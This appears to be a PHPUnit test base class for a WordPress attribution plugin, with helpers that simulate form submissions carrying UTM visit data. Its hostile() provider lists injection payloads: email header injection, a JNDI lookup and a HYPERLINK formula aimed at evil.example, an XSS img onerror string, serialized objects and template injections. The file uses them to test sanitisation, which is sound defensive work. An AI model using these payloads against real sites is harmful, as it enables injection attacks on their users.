<?php
/**
 * Base of the tests with stand-ins for form plugins.
 */

declare( strict_types=1 );

namespace Eidan\Tests\Enquiries\Forms;

use Eidan\Enquiries\Enquiry;
use Eidan\Enquiries\Sent;
use Eidan\Settings\Settings;
use Eidan\Support\Memory;
use Eidan\Tests\TestCase;

/**
 * Forms are sent by visitors who came from a newsletter.
 */
abstract class FormsTestCase extends TestCase {

	protected const VISIT = array(
		'source_type'        => 'utm',
		'utm_source'         => 'news',
		'utm_medium'         => 'email',
		'utm_campaign'       => 'spring',
		'session_entry'      => 'https://example.org/?utm_source=news',
		'session_start_time' => '2026-11-30 10:00:00',
	);

	/** @var list<Enquiry> What was kept. */
	protected array $kept = array();

	protected function setUp(): void {
		parent::setUp();
		require_once __DIR__ . '/stand-ins.php';
		$this->kept = array();
		add_action(
			'eidan_enquiry_added',
			function ( int $id, Enquiry $enquiry ): void {
				$this->kept[] = $enquiry;
			},
			10,
			2
		);
		$_SERVER['HTTP_REFERER'] = home_url( '/contact/' );
	}

	/**
	 * Sends a form.
	 *
	 * @param array<string, string> $visit What our script adds; none without consent.
	 */
	protected function send( array $visit = self::VISIT ): void {
		unset( $_POST[ Sent::FIELD ], $_POST['data'] );
		if ( array() !== $visit ) {
			$json                 = base64_encode( (string) wp_json_encode( $visit ) );
			$_POST[ Sent::FIELD ] = wp_slash( $json );
			// As Fluent Forms sends all of a form.
			$_POST['data'] = wp_slash( http_build_query( array( Sent::FIELD => $json ) ) );
		}
	}

	/** Switches enquiries off. */
	protected function switch_off(): void {
		update_option( Settings::OPTION, array( 'attribution' => array( 'enquiries' => false ) ) );
		Memory::forget();
	}

	/** The one enquiry that was kept. */
	protected function one(): Enquiry {
		self::assertCount( 1, $this->kept );

		return $this->kept[0];
	}

	/**
	 * Values of every kind of attack, one for each field that is a text.
	 *
	 * @return array<string, array{string}>
	 */
	public static function hostile(): array {
		$texts = array_column(
			(array) json_decode( (string) file_get_contents( EIDAN_DIR . '/tests/fixtures/xss-payloads.json' ), true ),
			'payload'
		);
		$more  = array(
			"x\r\nBcc: evil@example.com",
			"x\nContent-Type: text/html\n\n<b>x</b>",
			"x%0d%0aBcc:evil@example.com",
			"x\u{2028}Bcc: evil@example.com",
			"x\u{85}Bcc: evil@example.com",
			"x\0Bcc: evil@example.com",
			'[eidan_journey][frm-search]',
			'[[your-name]]',
			'{admin_email}',
			'{eidan.journey}{wp.admin_email}',
			'{{inputs.email}}',
			'${jndi:ldap://evil.example}',
			'=HYPERLINK("https://evil.example","x")',
			'O:8:"stdClass":1:{s:1:"a";i:1;}',
			'$1\\1%1$s',
			'"><img src=x onerror=alert(1)>',
			"\u{202E}gnirps",
		);
		$cases = array();
		foreach ( array( ...$texts, ...$more ) as $number => $text ) {
			$cases[ "payload $number" ] = array( (string) $text );
		}
		return $cases;
	}

	/**
	 * A visit with a value in each of its fields.
	 *
	 * @return array<string, string>
	 */
	protected static function visit_of( string $payload ): array {
		return array(
			'source_type'        => 'utm',
			'utm_source'         => $payload,
			'utm_medium'         => $payload,
			'utm_campaign'       => $payload,
			'session_entry'      => 'https://example.org/' . $payload,
			'referrer'           => $payload,
			'session_start_time' => $payload,
			'channel'            => $payload,
			'user_agent'         => $payload,
			'first_source_type'  => 'referral',
			'first_utm_source'   => $payload,
			'last_source_type'   => 'typein',
		);
	}

	/** A text is one line in which nothing is a tag of HTML. */
	protected static function assert_line( string $text ): void {
		self::assertDoesNotMatchRegularExpression( '/[\p{Cc}\x{2028}\x{2029}]/u', $text );
		self::assertDoesNotMatchRegularExpression( '~<[a-z/!?]~i', $text );
	}
}
